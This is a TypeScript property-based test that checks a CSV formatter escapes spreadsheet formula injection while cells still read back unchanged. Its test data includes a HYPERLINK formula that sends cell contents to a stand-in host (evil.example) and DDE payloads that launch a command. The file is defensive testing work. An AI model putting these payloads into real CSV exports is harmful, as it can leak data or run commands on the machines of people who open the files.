/**
 * CSV that strangers wrote parts of: it reads back as it was, and no cell computes anything.
 *
 * @module
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { formatCsvLine } from "../../core/csv.ts";
import { HOSTILE_TEXTS } from "../support/every_route.ts";

/** What spreadsheets take for a formula, in whatever form it is typed. */
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const MEANT = [
  "=1+1",
  `=HYPERLINK("http://evil.example?x="&A1,"Click")`,
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "--1",
  "+",
  "-",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "+1234567 =1",
  "-1.5=1",
  "-1e5",
  "＝1+1",
];
const cells = fc.array(
  fc.oneof(
    fc.constantFrom(...MEANT, ...HOSTILE_TEXTS.filter((text) => text.isWellFormed())),
    fc.tuple(fc.constantFrom(...STARTS), fc.string({ unit: "grapheme" })).map(([a, b]) => a + b),
    fc.string({ unit: fc.constantFrom("a", ",", '"', "\r", "\n", ";", "=", "'", " ", "-", "1") }),
  ),
  { minLength: 2, maxLength: 6 },
);

const isActive = (cell: string): boolean =>
  STARTS.some((start) => cell.startsWith(start)) && !/^-?\d+(\.\d+)?$|^\+\d{7,15}$/.test(cell);

Deno.test("a line of CSV reads back as it was, and no cell of it begins like a formula", () => {
  fc.assert(
    fc.property(cells, (line) => {
      const text = formatCsvLine(line) + formatCsvLine(["next", "line"]);
      const [read, next, ...more]: string[][] = parse(text, { relaxColumnCount: true });
      assert.deepEqual([next, more], [["next", "line"], []]);
      assert.deepEqual(read!.map((cell, i) => cell === line[i] ? cell : cell.slice(1)), line);
      for (const cell of read!) assert(!isActive(cell), JSON.stringify(cell));
    }),
    { numRuns: 3_000, seed: 20_260_131 },
  );
});

Deno.test("every formula gets a quote before it, decimals and numbers to call stay as they are", () => {
  for (const cell of MEANT) {
    const rows: string[][] = parse(formatCsvLine([cell]), { relaxColumnCount: true });
    assert.deepEqual(rows, [[`'${cell}`]]);
  }
  for (const cell of ["-1.500000", "12.000000", "+14155550123", "0", "-7", "acme", "a=b", "1-2"]) {
    assert.equal(formatCsvLine([cell]), `${cell}\r\n`);
  }
});
